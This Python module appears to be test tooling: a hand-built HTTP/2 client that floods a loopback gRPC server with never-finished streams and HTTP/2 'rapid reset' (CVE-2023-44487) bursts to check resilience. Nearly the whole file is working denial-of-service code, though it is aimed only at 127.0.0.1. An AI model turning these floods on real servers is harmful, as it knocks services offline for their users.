"""A deliberately rude HTTP/2 client for the hostile-network tests.

Standard library only. It writes frames by hand (RFC 9113) with HPACK
literal encoding (RFC 7541, no Huffman, no dynamic table), so it can do what
no well-behaved client library does: open streams and never finish them,
reset them at once (CVE-2023-44487, "rapid reset"), never acknowledge the
server's SETTINGS. Whatever the server sends is read and thrown away on a
background thread, so the server never blocks on a full socket. With an
ssl.SSLContext it does the same over TLS (ALPN h2).
"""

import select
import socket
import ssl
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA = 0x0
HEADERS = 0x1
RST_STREAM = 0x3
SETTINGS = 0x4
PING = 0x6
GOAWAY = 0x7

END_STREAM = 0x1
ACK = 0x1
END_HEADERS = 0x4

CANCEL = 0x8


def frame(kind, flags, stream_id, payload=b""):
    return (struct.pack(">I", len(payload))[1:] +
            bytes([kind, flags]) +
            struct.pack(">I", stream_id & 0x7FFFFFFF) + payload)


def _hpack_int(value, prefix_bits, first_byte_flags):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte_flags | value])
    out = bytearray([first_byte_flags | limit])
    value -= limit
    while value >= 128:
        out.append((value % 128) + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def _hpack_string(text):
    data = text.encode() if isinstance(text, str) else text
    return _hpack_int(len(data), 7, 0x00) + data


def hpack_literal(headers):
    """Each header as "literal without indexing, new name"."""
    out = bytearray()
    for name, value in headers:
        out += b"\x00" + _hpack_string(name) + _hpack_string(value)
    return bytes(out)


def grpc_request_headers(path, authority="127.0.0.1", extra=()):
    return hpack_literal([
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", authority),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ] + list(extra))


def tls_context(ca_file, cert_file=None, key_file=None):
    """A client context that trusts ca_file and offers ALPN h2."""
    context = ssl.create_default_context(cafile=ca_file)
    context.set_alpn_protocols(["h2"])
    if cert_file:
        context.load_cert_chain(cert_file, key_file)
    return context


class Connection:
    """One TCP connection speaking raw HTTP/2 to `port` on loopback.

    With `tls` (an ssl.SSLContext) the connection is TLS; reads and writes
    then take turns under one lock on a non-blocking socket, as an OpenSSL
    connection must not be read and written at once from two threads.
    """

    def __init__(self, port, ack_settings=True, timeout=5.0, tls=None):
        self.sock = socket.create_connection(("127.0.0.1", port),
                                             timeout=timeout)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.timeout = timeout
        self.tls = tls is not None
        if self.tls:
            self.sock = tls.wrap_socket(self.sock,
                                        server_hostname="localhost")
            if self.sock.selected_alpn_protocol() != "h2":
                raise OSError("server did not select ALPN h2")
            self.sock.setblocking(False)
        self.ack_settings = ack_settings
        self.closed_by_peer = threading.Event()
        self.goaway = threading.Event()
        self.bytes_received = 0
        self._next_stream = 1
        self._send_lock = threading.Lock()
        self._stop = False
        self._send(PREFACE + frame(SETTINGS, 0, 0))
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    def _recv(self):
        if not self.tls:
            return self.sock.recv(65536)
        while not self._stop:
            select.select([self.sock], [], [], 0.05)
            with self._send_lock:
                try:
                    return self.sock.recv(65536)
                except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                    continue
        return b""

    def _read(self):
        buffer = b""
        try:
            while True:
                chunk = self._recv()
                if not chunk:
                    break
                self.bytes_received += len(chunk)
                buffer += chunk
                while len(buffer) >= 9:
                    length = int.from_bytes(buffer[0:3], "big")
                    if len(buffer) < 9 + length:
                        break
                    kind, flags = buffer[3], buffer[4]
                    payload = buffer[9:9 + length]
                    buffer = buffer[9 + length:]
                    if kind == GOAWAY:
                        self.goaway.set()
                    elif kind == SETTINGS and not flags & ACK:
                        if self.ack_settings:
                            self._send(frame(SETTINGS, ACK, 0))
                    elif kind == PING and not flags & ACK:
                        self._send(frame(PING, ACK, 0, payload))
        except OSError:
            pass
        self.closed_by_peer.set()

    def _send(self, data):
        if not self.tls:
            with self._send_lock:
                self.sock.sendall(data)
            return
        view = memoryview(data)
        deadline = time.monotonic() + self.timeout
        while view:
            with self._send_lock:
                try:
                    view = view[self.sock.send(view):]
                    continue
                except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                    pass
            if time.monotonic() > deadline:
                raise socket.timeout("send timed out")
            select.select([], [self.sock], [], 0.05)

    def new_stream_id(self):
        stream_id = self._next_stream
        self._next_stream += 2
        return stream_id

    def send_batch(self, frames):
        """Sends frames; False once the server closed the connection."""
        try:
            self._send(b"".join(frames))
            return True
        except OSError:
            return False

    def close(self):
        self._stop = True
        try:
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.sock.close()
        self._reader.join(timeout=5)


def open_streams_batch(conn, path, count):
    """HEADERS without END_STREAM: streams the server must keep open."""
    block = grpc_request_headers(path)
    return [frame(HEADERS, END_HEADERS, conn.new_stream_id(), block)
            for _ in range(count)]


def rapid_reset_batch(conn, path, count):
    """HEADERS then RST_STREAM(CANCEL) for each stream, back to back."""
    block = grpc_request_headers(path)
    frames = []
    for _ in range(count):
        stream_id = conn.new_stream_id()
        frames.append(frame(HEADERS, END_HEADERS, stream_id, block))
        frames.append(frame(RST_STREAM, 0, stream_id,
                            struct.pack(">I", CANCEL)))
    return frames


def flood(port, kind, seconds, connections=1, ack_settings=False,
          path="/identity.v1.AccessKeyService/ListAccessKeys",
          on_tick=None, batch=200, tls=None):
    """Floods `port` from `connections` connections for `seconds`.

    kind is "open" (streams never finished) or "reset" (rapid reset). A
    connection the server closes is replaced, as an attacker would. Calls
    on_tick() between batches (for RSS sampling). Returns the number of
    streams sent. `tls`: an ssl.SSLContext to flood over TLS.
    """
    make = open_streams_batch if kind == "open" else rapid_reset_batch
    conns = []
    sent = 0
    deadline = time.monotonic() + seconds
    try:
        while time.monotonic() < deadline:
            while len(conns) < connections:
                try:
                    conns.append(Connection(port, ack_settings=ack_settings,
                                            tls=tls))
                except OSError:
                    time.sleep(0.05)
                    break
            for conn in list(conns):
                if conn.closed_by_peer.is_set() or conn._next_stream > 2**30:
                    conn.close()
                    conns.remove(conn)
                    continue
                if conn.send_batch(make(conn, path, batch)):
                    sent += batch
                else:
                    conn.close()
                    conns.remove(conn)
            if on_tick is not None:
                on_tick()
    finally:
        for conn in conns:
            conn.close()
    return sent
